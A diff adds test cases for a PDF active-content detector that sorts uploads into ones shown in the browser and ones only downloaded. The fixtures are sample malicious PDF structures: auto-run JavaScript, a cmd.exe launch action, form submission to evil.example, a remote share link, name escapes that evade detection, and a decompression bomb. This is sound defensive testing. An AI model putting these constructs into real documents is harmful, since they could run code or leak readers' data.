@@ -1,0 +1,128 @@
+import { randomBytes } from 'node:crypto';
+import { deflateSync } from 'node:zlib';
+import { describe, expect, test } from 'vitest';
+import { pdfActs } from '#functions/domain/documents/files/pdf.ts';
+import { demoFile } from '../../../infra/local/demo-files.ts';
+import { compressedPdf, linearisedPdf, pdf } from '../../support/files/pdfs.ts';
+
+// Which PDFs are shown in the browser and which only downloaded (contract, Documents).
+
+const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+const encrypted = '/Encrypt 8 0 R';
+const stored = (bytes: Buffer) => deflateSync(bytes, { level: 0 });
+
+/** Object streams one in another: each is packed in all bytes up to the one end. */
+function sharedStreams(): Buffer {
+  const head = (i: number) =>
+    Buffer.from(`${i} 0 obj\n<< /Type /ObjStm /N 0 /First 0 /Filter /FlateDecode >>\nstream\n`);
+  const empty = deflateSync('');
+  const streams = Array.from({ length: 3 }, (_, i) => Buffer.concat([head(i + 1), empty]));
+  return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...streams, Buffer.alloc(200_000), END_OF_PDF]);
+}
+const UNTYPED = { dictionary: '/Filter /FlateDecode' };
+const replaced = (bytes: Buffer, from: RegExp, to: string) =>
+  Buffer.from(bytes.toString('latin1').replace(from, to), 'latin1');
+const untypedWith = (first: string) => replaced(compressedPdf(`/OpenAction ${SCRIPT}`, UNTYPED), /\/First \d+/, first);
+const escapedFirst = () => replaced(compressedPdf(`/OpenAction ${SCRIPT}`, UNTYPED), /\/First/, '/F#69rst');
+const END_OF_PDF = Buffer.from('\nendstream\nendobj\nstartxref\n0\n%%EOF\n');
+
+describe('shown', () => {
+  test.each<[string, Buffer]>([
+    ['of old', pdf()],
+    ['with objects in a compressed stream', compressedPdf()],
+    ['linearised', linearisedPdf()],
+    [
+      'with bookmarks, a form and metadata',
+      pdf('/Outlines 6 0 R /AcroForm << /Fields [] >> /Metadata 7 0 R', ['<<>>', '<<>>']),
+    ],
+    [
+      'with a link to a page on the web',
+      pdf('', ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://firm.example/a) >> >>']),
+    ],
+    ['with a link within itself', pdf('', ['<< /Type /Annot /Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] >> >>'])],
+    ['with a password, its objects in the open', pdf('', ['<< /Filter /Standard /V 4 >>'], '/Encrypt 6 0 R')],
+    [
+      'with an outline, whose first entry is called as an end',
+      pdf('/Outlines 6 0 R', ['<< /First 7 0 R /Last 7 0 R >>', '<< /Title (A \\) stream) /First 8 0 R /Count 1 >>']),
+    ],
+    ['with text about scripts', pdf('', ['<< /Title (JavaScript, OpenAction and Launch) >>'])],
+    ['with names that only begin so', pdf('/JavaScripts 1 /LaunchPad 2 /JSON (x) /AAA << >>')],
+    [
+      'with a scan of four megabytes',
+      pdf('', [`<< /Length 4000000 >>\nstream\n${randomBytes(4_000_000).toString('latin1')}\nendstream`]),
+    ],
+  ])('a PDF %s', (_, bytes) => expect(pdfActs(bytes)).toBe(false));
+
+  test('a PDF of the demo firm', async () => {
+    const file = await demoFile('Client engagement letter.pdf');
+    expect(pdfActs(Buffer.from(await file.arrayBuffer()))).toBe(false);
+  });
+});
+
+describe('only downloaded', () => {
+  test.each<[string, Buffer]>([
+    ['runs a script when it opens', pdf(`/OpenAction ${SCRIPT}`)],
+    ['names what it does when it opens elsewhere', pdf('/OpenAction 6 0 R', ['[3 0 R /Fit]'])],
+    ['holds scripts by name', pdf('/Names << /JavaScript 6 0 R >>', ['<< /Names [(a) 7 0 R] >>', SCRIPT])],
+    ['writes its names with escapes', pdf('/O#70enAction << /S /J#61v#61Script /J#53 (x) >>')],
+    ['acts when a page is opened', pdf('', ['<< /Type /Page /AA << /O 7 0 R >> >>'])],
+    ['has a script in an indirect string', pdf('', ['<< /JS 7 0 R >>'])],
+    ['starts a program', pdf('', ['<< /S /Launch /F (cmd.exe) >>'])],
+    ['carries a file', pdf('/Names << /EmbeddedFiles 6 0 R >>')],
+    ['carries a file on a page', pdf('', ['<< /Subtype /FileAttachment /FS << /EF << /F 7 0 R >> >> >>'])],
+    ['sends what is filled in', pdf('', ['<< /S /SubmitForm /F (https://evil.example) >>'])],
+    ['reads data in', pdf('', ['<< /S /ImportData /F (x) >>'])],
+    ['has a form of XML', pdf('/AcroForm << /XFA 6 0 R >>')],
+    ['plays rich media', pdf('', ['<< /Subtype /RichMedia >>'])],
+    ['acts from a compressed stream', compressedPdf(`/OpenAction ${SCRIPT}`)],
+    ['acts from a compressed stream, with escapes', compressedPdf('/Open#41ction 5 0 R')],
+    ['acts from a compressed stream that does not say its type', compressedPdf(`/OpenAction ${SCRIPT}`, UNTYPED)],
+    ['says with escapes where the first object of that stream is', escapedFirst()],
+    ['says by reference where it is', untypedWith('/First 9 0 R /X (>> endobj)')],
+    ['opens a file on another computer', pdf('', ['<< /S /GoToR /F (\\\\server\\share\\a.pdf) /D [0 /Fit] >>'])],
+    ['calls that stream so with escapes', compressedPdf('', { dictionary: '/Type /Obj#53tm /Filter /FlateDecode' })],
+    [
+      'packs its objects in two ways',
+      compressedPdf('', { dictionary: '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]' }),
+    ],
+    ['packs its objects in another way', compressedPdf('', { dictionary: '/Type /ObjStm /Filter /LZWDecode' })],
+    [
+      'predicts its objects',
+      compressedPdf('', { dictionary: '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>' }),
+    ],
+    [
+      'keeps its objects in another file',
+      compressedPdf('', { dictionary: '/Type /ObjStm /Filter /FlateDecode /F (x)' }),
+    ],
+    ['shares the bytes of its object streams', sharedStreams()],
+    ['has damaged objects', compressedPdf('', { data: (plain) => deflateSync(plain).subarray(0, 20) })],
+    [
+      'unpacks to more than anyone reads',
+      compressedPdf('', { data: () => deflateSync(Buffer.alloc(17 * 1024 * 1024)) }),
+    ],
+    ['encrypts its objects', compressedPdf('', { trailer: encrypted })],
+    ['is cut off', pdf().subarray(0, -30)],
+    ['is a first line only', Buffer.from('%PDF-1.7\n')],
+  ])('a PDF that %s', (_, bytes) => expect(pdfActs(bytes)).toBe(true));
+
+  test('one whose objects are stored without packing them', () =>
+    expect(pdfActs(compressedPdf(`/OpenAction ${SCRIPT}`, { data: stored }))).toBe(true));
+});
+
+describe('a PDF made to be slow to look at comes to an end', () => {
+  const MB4 = 4 * 1024 * 1024;
+  test.each<[string, boolean]>([
+    ['stream\n', false],
+    ['1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n', true],
+    [compressedPdf().toString('latin1'), true],
+    ['#41', true],
+    ['/JS /AA ', false],
+    ['/AA 1 1 1 ', false],
+    [`/JS${' '.repeat(1000)}`, false],
+    ['startxref 1 ', false],
+    ['/First 1 0 R(', true],
+    ['1 0 obj<</First 1 0 R>>endobj\n', true],
+  ])('with four megabytes of %.50j', (text, isKept) =>
+    expect(pdfActs(Buffer.concat([Buffer.alloc(MB4, text, 'latin1'), pdf()]))).toBe(isKept),
+  );
+});
